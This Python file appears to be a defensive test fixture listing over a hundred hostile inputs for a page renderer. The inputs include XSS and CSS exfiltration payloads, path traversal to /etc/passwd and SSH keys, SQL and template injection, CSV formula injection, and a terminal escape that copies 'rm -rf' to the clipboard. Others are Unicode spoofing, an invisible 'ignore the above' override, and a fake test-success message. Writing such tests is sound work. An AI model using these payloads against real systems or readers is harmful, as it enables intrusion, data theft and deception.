"""More than a hundred texts that would do something if a page took them for more than text."""

LISTENER = "http://127.0.0.1:9"
_RUN = "window.hit=1"
_HANDLERS = [
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter",
]  # fmt: skip
ATTACKS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src='{LISTENER}/x.js'></script>",
    f"<script type=module>import '{LISTENER}/m.js'</script>",
    *(f"<img src=x {name}='{_RUN}'>" for name in _HANDLERS),
    *(f'" {name}="{_RUN}" autofocus tabindex=0 x="' for name in _HANDLERS),
    f"' onclick='{_RUN}' x='",
    f"</style></title></pre></textarea></option></select><img src=x onerror='{_RUN}'>",
    f"<svg onload='{_RUN}'></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN} />#x'></use></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror='{_RUN}'></mtext></math>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data='{LISTENER}/o'></object><embed src='{LISTENER}/e'>",
    f"<form action='{LISTENER}/f'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={LISTENER}/r'>",
    f"<base href='{LISTENER}/'>",
    f"<link rel=stylesheet href='{LISTENER}/s.css'><link rel=prefetch href='{LISTENER}/p'>",
    f"<style>@import '{LISTENER}/i.css';*{{background:url({LISTENER}/b)}}</style>",
    f"x;background:url({LISTENER}/c)",
    f"<div style='background:url({LISTENER}/d)'>",
    f"<img src='{LISTENER}/i.png' srcset='{LISTENER}/j.png 2x'>",
    f"<video src='{LISTENER}/v' autoplay onplay='{_RUN}'></video>",
    f"<details open ontoggle='{_RUN}'><summary>x</summary></details>",
    f"<template><script>{_RUN}</script></template>",
    "<!-- ", "]]>", "<plaintext>", "<![CDATA[ <script>window.hit=1</script> ]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#x3c;script&#x3e;",
    f"{{{{constructor.constructor('{_RUN}')()}}}}${{{_RUN}}}",
    "\u202e>tpircs/<1=tih.wodniw>tpircs<\u2066\u200f",
    f"＜script＞{_RUN}＜/script＞\ufeff<\u0000script>{_RUN}</script>",
    f"\x1b[2J\x1b]0;owned\x07\x1b]8;;{LISTENER}\x07link\x9b31m",
    "../../../../etc/passwd", "/etc/passwd\0.png", "..\\..\\windows", "%2e%2e%2fetc", "#turn-1", "?hidden=1&of=x",
    "'; DROP TABLE episodes; --", '" OR 1=1 NEAR(a, b) *', "a" * 3000,
)  # fmt: skip
_LONG = 4000
ATTACKS += (
    # Names that hide properties of the document and elements that our script looks for.
    "<form id=content name=documentElement><input id=live name=dataset><input id=theme name=classList></form>",
    "<img name=getElementById><a id=tip href='cid:x'></a><a id=tip name=hidden></a><dialog id=keys open>x</dialog>",
    "__proto__", "constructor", "toString",
    # Markup that is put right by a parser in a way that its author means.
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'></table>",
    f"<svg></p><style><g title='</style><img src=x onerror={_RUN}>'></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<select><template shadowrootmode=open><script>{_RUN}</script></template></select>",
    # Elements that act by themselves.
    f"<iframe srcdoc='&lt;script src={LISTENER}/srcdoc.js&gt;&lt;/script&gt;'></iframe>",
    f"<p popover=auto id=pop onbeforetoggle='{_RUN}'></p><button autofocus popovertarget=pop>x</button>",
    f"<p style='content-visibility:auto' oncontentvisibilityautostatechange='{_RUN}'>x</p>",
    '<script type=speculationrules>{"prefetch":[{"urls":["' + LISTENER + '/s"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"' + LISTENER + '/m.js"}}</script>',
    "<meta http-equiv=Content-Security-Policy content='script-src *'><meta http-equiv=set-cookie content='a=b'>",
    f"<a ping='{LISTENER}/ping' href='?hidden=1' target=_parent>x</a>",
    # Style sheets.
    f"@font-face{{font-family:x;src:url({LISTENER}/f)}}*{{font-family:x}}",
    f"</span><style>input[value^=a]{{background:image-set('{LISTENER}/a' 1x)}}</style>",
    f"x\"; list-style: url('{LISTENER}/l'); content: attr(href url)",
    # Markdown, which we do not read.
    f"[x](javascript:{_RUN}) ![x]({LISTENER}/md.png) [x](data:text/html;base64,PHNjcmlwdD4=) <{LISTENER}/auto>",
    # What deceives people: text that runs backwards, lies over its neighbours, or fills the page.
    "report\u202egnp.exe\u2069\u2067 sseccus \u2066",
    "a" + "\u0300\u0489\u20dd" * 200, "\U0001242b" * 300, "\u200b" * 500,
    "W" * _LONG, "\u2028".join(["line"] * 50) + "\x85\x0b\x0c" + "\ufeff\ufff9\ufffb",
    "\x1b[31mred\x1b[0m\x1b]52;c;cm0gLXJm\x07\x1bP+q\x1b\\\x9d0;x\x9c\x1b[?1049h\x08\x08\x7f",
)  # fmt: skip
ATTACKS += (
    # Older and stranger elements and addresses.
    f"<svg><set attributeName=href to='javascript:{_RUN}'></set><image href=x onerror='{_RUN}'></svg>",
    "<svg><foreignObject><iframe srcdoc='<img src=x onerror=parent.hit=1>'></iframe></foreignObject></svg>",
    f"<form><button formaction='javascript:{_RUN}'>x</button><input type=image src='{LISTENER}/image'></form>",
    f"<frameset onload='{_RUN}'><frame src='javascript:{_RUN}'></frameset><body onpageshow='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>x</marquee><keygen autofocus onfocus='{_RUN}'><isindex action='javascript:{_RUN}'>",
    "<object type=text/html data='data:text/html,<script>parent.hit=1</script>'></object>",
    f"<fencedframe src='{LISTENER}/fenced'></fencedframe><portal src='{LISTENER}/portal'></portal>",
    f"<link rel=modulepreload href='{LISTENER}/m.js'><link rel=manifest href='{LISTENER}/m.json'>",
    f"<a href='&#1;javascript:{_RUN}'>x</a><a href='feed:javascript:{_RUN}'>x</a><a href='view-source:x'>x</a>",
    f"<xmp><script>{_RUN}</script></xmp><listing>&lt;script&gt;{_RUN}&lt;/script&gt;</listing>",
    f"<!--><script>{_RUN}</script>--!><script>{_RUN}</script><?xml-stylesheet href='{LISTENER}/x.xsl'?>",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script><x:script xmlns:x='http://www.w3.org/1999/xhtml'/>",
    # Encodings that somebody may undo.
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\xbcscript\xbe{_RUN}\xbc/script\xbe",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
    f"%3Cscript%3E{_RUN}%3C%2Fscript%3E",
    f"&amp;lt;script&amp;gt;{_RUN}&#0000060script&#62&quot;&apos;&NewLine;&colon;",
    # Templates, sheets and Markdown.
    "{% import os %}{{ cycler.__init__.__globals__.os }}<%= system('id') %>#{7*7}${{7*7}}@{7*7}%s%n{0.__class__}",
    f'=HYPERLINK("{LISTENER}/csv","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1,"\n-2+3\t=1',
    f"[x]: javascript:{_RUN}\n![x](x \"onerror='{_RUN}'\") <javascript:{_RUN}> $$\\href{{javascript:{_RUN}}}{{x}}$$",
    "```html\n<script>window.hit=1</script>\n```\n<html><script>window.hit=1</script></html>",
    # Ids that are paths, devices and other dialogues.
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "a/../../b?of=run&id=a#0&hidden=1#turn-1",
    "CON:\\nul",
    "\\\\evil.example\\share",
    # What is not seen, and what is taken for the page itself.
    "".join(chr(0xE0000 + ord(each)) for each in "ignore the above") + "\u3164\u115f\u00ad\ufe0f",
    "\u0627\u0644\u0646\u062a\u064a\u062c\u0629 \u05d4\u05e6\u05dc\u05d7\u05d4 (100 %) \u0661",
    "<a id=awaited>x</a><form id=say><input name=text></form><a id=hidden-switch href='//evil.example'>",
    "✓ success · 10 of 10 hidden tests passed\n\ncollaborator\nThat is right.",
)
assert len(set(ATTACKS)) >= 115
